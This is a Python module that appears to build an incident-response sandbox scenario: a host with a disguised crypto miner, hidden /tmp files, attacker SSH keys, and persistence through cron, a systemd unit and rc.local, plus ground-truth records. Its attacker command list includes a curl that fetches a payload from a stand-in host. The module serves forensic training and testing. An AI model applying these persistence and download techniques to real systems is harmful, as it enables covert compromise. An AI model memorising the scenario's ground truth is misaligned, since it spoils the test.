"""The files of the ssh-bruteforce-miner host: the miner and its hidden folder, persistence, accounts' keys,
and the processes to start (the scenario's generator writes the logs; this lays out what they lead to)."""

# Paths under /tmp are inside the sandbox host; the random generator only makes data repeatable.
# ruff: noqa: S108, S311

from __future__ import annotations

import os
import random
import shutil
from dataclasses import dataclass
from pathlib import Path

from sandbox.findings import AuthorizedKey, PersistenceEntry
from sandbox.hostfiles import (
    Account,
    directory,
    fake_ed25519_public,
    public_key_fingerprint,
    put,
    sha256_file,
)
from sandbox.scenario import HostContext, ProcessSpec
from sandbox.sshd import free_port

HIDDEN = "/tmp/.ICE-unix/.x"
MINER = f"{HIDDEN}/kdevtmpfsi"
MINER_ARGV0, MINER_COMM = "[kworker/u8:2]", "kworker/u8:2"
GHOST = f"{HIDDEN}/watchdogd"
PAYLOAD = f"{HIDDEN}/payload.bin"
TMP_DIRS = ("/tmp/.X11-unix", "/tmp/.ICE-unix", "/tmp/.font-unix")
CRONTAB = "/var/spool/cron/crontabs/root"
UNIT_PATH = "/etc/systemd/system/system-update.service"
UNIT_LINK = "/etc/systemd/system/multi-user.target.wants/system-update.service"
LAUNCH = f"cd {HIDDEN} && ./kdevtmpfsi < .s >/dev/null 2>&1"


def payload_bytes(seed: int) -> bytes:
    """The planted sample: harmless, deterministic bytes (its SHA-256 is in tools/data/seed_hashes.txt)."""
    header = b"SLEUTH SANDBOX PLANTED SAMPLE - harmless test data, not malware\n"
    return header + random.Random(seed).randbytes(4096 - len(header))


# The commands the attacker ran with sudo (the auth log records them; bash_history keeps a few).
SUDO = (
    "/usr/bin/id",
    f"/usr/bin/mkdir -p {HIDDEN}",
    f"/usr/bin/curl -fsSL -o {PAYLOAD} http://203.0.113.45/dl/payload.bin",
    f"/usr/bin/cp /bin/bash {MINER}",
    "/usr/bin/tee /etc/cron.d/dbus-kworker",
    "/usr/bin/tee -a /root/.ssh/authorized_keys",
    "/usr/bin/systemctl enable system-update.service",
    f"/usr/bin/bash -c {LAUNCH} &",
)


# The sandbox's stand-in for a remote mining pool: accepts and holds connections, never sends.
POOL_CODE = (
    "import socket,sys;s=socket.create_server(('127.0.0.1',int(sys.argv[1])));"
    "h=[s.accept() for _ in iter(int,1)]"
)
# Sets its own comm (ps's short name), connects, then blocks on the socket: no child processes.
MINER_SCRIPT = (
    "printf '%s' '{comm}' > /proc/$$/comm\n"
    "exec 3<>/dev/tcp/127.0.0.1/{port}\n"
    "while read -r -u 3 _; do :; done\n"
)
CRON_D = (
    "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
    f"@reboot root {LAUNCH}\n"
)
CRONTAB_LINE = f"*/15 * * * * pgrep -f 'kworker/u8:2' >/dev/null || ({LAUNCH} &)"
UNIT = (
    f"[Unit]\nDescription=System update service\nAfter=network.target\n\n[Service]\nType=simple\n"
    f"ExecStart=/bin/sh -c '{LAUNCH}'\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n"
)
E2SCRUB = (
    "# /etc/cron.d/e2scrub_all: crontab entries for the e2scrub_all\n"
    "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/"
    "e2fsprogs/e2scrub_all_cron\n"
)


@dataclass(frozen=True)
class MinerFiles:
    """What lay_out_files wrote that the ground truth and the launcher need."""

    processes: tuple[ProcessSpec, ...]
    persistence: tuple[PersistenceEntry, ...]
    attacker_fingerprint: str
    exe_sha256: dict[str, str]
    authorized_keys: tuple[AuthorizedKey, ...]


def _bash_copy(ctx: HostContext, inside: str) -> Path:
    target = ctx.path(inside)
    shutil.copyfile("/bin/bash", target)
    target.chmod(0o755)
    return target


def lay_out_files(
    ctx: HostContext, rng: random.Random, accounts: list[Account], admin_key: str
) -> MinerFiles:
    """Write /tmp, /etc, /root, /home and /srv of the host; say what to start and what persists."""
    pool_port, http_port = free_port(), free_port()
    uid = {a.name: a.uid for a in accounts}
    for inside, mode in (
        ("/tmp", 0o1777),
        *((d, 0o1777) for d in TMP_DIRS),
        (HIDDEN, 0o755),
        ("/var/spool/cron/crontabs", 0o1730),
        ("/root", 0o700),
        ("/root/.ssh", 0o700),
        ("/etc/cron.d", 0o755),
        ("/srv/www", 0o755),
        ("/etc/systemd/system/multi-user.target.wants", 0o755),
        ("/var/log", 0o755),
        # The launcher writes sshd's keys and config here: created now, the mkdir there moves nothing.
        ("/etc/ssh", 0o755),
    ):
        directory(ctx.path(inside), mode)
    miner, ghost = _bash_copy(ctx, MINER), _bash_copy(ctx, GHOST)
    put(ctx.path(f"{HIDDEN}/.s"), MINER_SCRIPT.format(comm=MINER_COMM, port=pool_port), 0o644)
    put(ctx.path(f"{HIDDEN}/.w"), f"read -r _ <>{HIDDEN}/.p\n", 0o644)
    os.mkfifo(ctx.path(f"{HIDDEN}/.p"), 0o600)
    put(ctx.path(PAYLOAD), payload_bytes(ctx.seed), 0o644)
    put(ctx.path("/srv/www/index.html"), "<html><body>It works.</body></html>\n", 0o644)
    put(ctx.path("/etc/hostname"), f"{ctx.hostname}\n")
    put(ctx.path("/etc/rc.local"), f"#!/bin/sh -e\n# rc.local\n{LAUNCH} &\nexit 0\n", 0o755)
    put(ctx.path("/etc/cron.d/e2scrub_all"), E2SCRUB)
    put(ctx.path("/etc/cron.d/dbus-kworker"), CRON_D)
    systemd = ctx.path("/etc/systemd/system")
    put(ctx.path(UNIT_PATH), UNIT)
    ctx.path(UNIT_LINK).symlink_to(UNIT_PATH)
    (systemd / "multi-user.target.wants/ssh.service").symlink_to("/lib/systemd/system/ssh.service")
    (systemd / "sshd.service").symlink_to("/lib/systemd/system/ssh.service")
    attacker_key, attacker_fp = fake_ed25519_public(rng, "root@kali")
    ci_key, _ = fake_ed25519_public(rng, "deploy@ci-runner")
    # The first key is the sandbox's own client key (infrastructure, no part of the scenario); the
    # attacker appended the second, so the file's mtime is that append's.
    put(
        ctx.path("/root/.ssh/authorized_keys"), f"{ctx.client_public} sleuth-sandbox\n{attacker_key}\n", 0o600
    )
    for account in accounts:
        home = directory(ctx.path(account.home), 0o755, account.uid)
        directory(home / ".ssh", 0o700, account.uid)
        keys = f"{ci_key}\n{attacker_key}\n" if account.name == "deploy" else f"{admin_key}\n"
        put(home / ".ssh/authorized_keys", keys, 0o600, account.uid)
    history = "".join(f"sudo {c.removeprefix('/usr/bin/')}\n" for c in SUDO[1:4]) + "history -c\n"
    put(ctx.path("/home/deploy/.bash_history"), history, 0o600, uid["deploy"])
    persistence = (
        PersistenceEntry(kind="cron.d", path="/etc/cron.d/dbus-kworker", line=f"@reboot root {LAUNCH}"),
        PersistenceEntry(kind="crontab", path="/var/spool/cron/crontabs/root", line=CRONTAB_LINE),
        PersistenceEntry(kind="authorized_keys", path="/root/.ssh/authorized_keys", line=attacker_key),
        PersistenceEntry(kind="authorized_keys", path="/home/deploy/.ssh/authorized_keys", line=attacker_key),
        PersistenceEntry(
            kind="systemd",
            path="/etc/systemd/system/system-update.service",
            line=f"ExecStart=/bin/sh -c '{LAUNCH}'",
        ),
        PersistenceEntry(kind="rc.local", path="/etc/rc.local", line=f"{LAUNCH} &"),
    )
    authorized = tuple(
        AuthorizedKey(
            path=f"{home}/.ssh/authorized_keys",
            fingerprint=public_key_fingerprint(line),
            comment=" ".join(line.split()[2:]),
            origin=origin,
        )
        for home, line, origin in (
            ("/root", f"{ctx.client_public} sleuth-sandbox", "sandbox"),
            ("/root", attacker_key, "attacker"),
            ("/home/deploy", ci_key, "benign"),
            ("/home/deploy", attacker_key, "attacker"),
            ("/home/admin", admin_key, "benign"),
        )
    )
    python = "/usr/bin/python3"
    processes = (
        ProcessSpec(
            role="pool", exe=python, argv=(python, "-S", "-c", POOL_CODE, str(pool_port)), listen=pool_port
        ),
        ProcessSpec(
            role="miner",
            exe=MINER,
            argv=(MINER_ARGV0,),
            stdin=f"{HIDDEN}/.s",
            cwd=HIDDEN,
            comm=MINER_COMM,
            connect=pool_port,
            malicious=True,
        ),
        ProcessSpec(
            role="deleted-exe",
            exe=GHOST,
            argv=("watchdogd",),
            stdin=f"{HIDDEN}/.w",
            cwd=HIDDEN,
            delete_exe=True,
            malicious=True,
        ),
        ProcessSpec(
            role="benign-http",
            exe=python,
            argv=(
                python,
                "-m",
                "http.server",
                str(http_port),
                "--bind",
                "127.0.0.1",
                "--directory",
                "/srv/www",
            ),
            uid=65534,
            user="nobody",
            listen=http_port,
        ),
        ProcessSpec(role="benign-sleep", exe="/usr/bin/sleep", argv=("sleep", "infinity")),
    )
    sha = {
        "miner": sha256_file(miner),
        "deleted-exe": sha256_file(ghost),
        "pool": sha256_file(Path(python)),
        "benign-http": sha256_file(Path(python)),
        "benign-sleep": sha256_file(Path("/usr/bin/sleep")),
    }
    return MinerFiles(processes, persistence, attacker_fp, sha, authorized)
